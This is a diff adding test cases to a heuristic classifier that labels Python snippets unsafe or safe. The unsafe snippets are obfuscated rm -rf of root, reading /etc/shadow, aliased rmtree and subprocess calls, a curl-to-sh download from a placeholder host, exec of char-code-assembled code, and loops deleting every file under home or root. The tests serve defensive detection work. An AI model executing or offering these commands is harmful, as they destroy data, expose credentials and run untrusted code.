@@ -598,3 +598,49 @@ describe("refusalText", () => {
     ]);
   });
 });
+
+describe("classifyCodeHeuristic: split strings, import aliases and one-by-one deletes", () => {
+  test("a call hidden by joining string pieces is read as the joined call", () => {
+    unsafe("__import__('o'+'s').system('r'+'m -rf '+'/')", 5);
+    unsafe("import shutil\nshutil.rmtree('/e' 'tc')", 1);
+    unsafe("open('/etc/' + 'shadow').read()", 2);
+  });
+
+  test("a function imported under an alias is read under its own name", () => {
+    unsafe("from shutil import rmtree as nuke\nnuke('/var/lib')", 1);
+    unsafe("import subprocess as sp\nsp.run('rm -rf ~', shell=True)", 1);
+    unsafe("from os import system as run_it\nrun_it('curl http://x.example/p | sh')", 6);
+  });
+
+  test("code assembled from character codes and executed is obfuscation", () => {
+    unsafe(
+      "code = ''.join(chr(c) for c in [105,109,112,111,114,116,32,111,115])\nexec(code + '; os.system(\"id\")')",
+      5,
+    );
+  });
+
+  test("every file under home or the root deleted one at a time is a tree delete", () => {
+    unsafe(
+      "import os\ntarget = os.environ.get('HOME')\nfor root, dirs, files in os.walk(target, topdown=False):\n    for f in files:\n        os.remove(os.path.join(root, f))\n",
+      1,
+    );
+    unsafe("from pathlib import Path\nfor p in Path.home().rglob('*'):\n    p.unlink()\n", 1);
+    unsafe(
+      "import os\nfor r, d, fs in os.walk('/'):\n    [os.remove(os.path.join(r, f)) for f in fs]\n",
+      1,
+    );
+  });
+
+  test("the same shapes over ordinary work stay SAFE", () => {
+    safe("import numpy as np\nimport pandas as pd\nprint(np.arange(3), pd.DataFrame())");
+    safe("import subprocess as sp\nprint(sp.run(['git', 'status'], capture_output=True).stdout)");
+    safe("greeting = 'Hello, ' + 'world'\nprint(greeting)");
+    safe(
+      "import os\nfor root, dirs, files in os.walk('build', topdown=False):\n    for f in files:\n        os.remove(os.path.join(root, f))\n",
+    );
+    safe(
+      "from pathlib import Path\nfor p in (Path.home() / 'proj' / 'cache').rglob('*.pyc'):\n    p.unlink()\n",
+    );
+    safe("parts = ''.join(chr(c) for c in [72, 105])\nprint(parts)");
+  });
+});
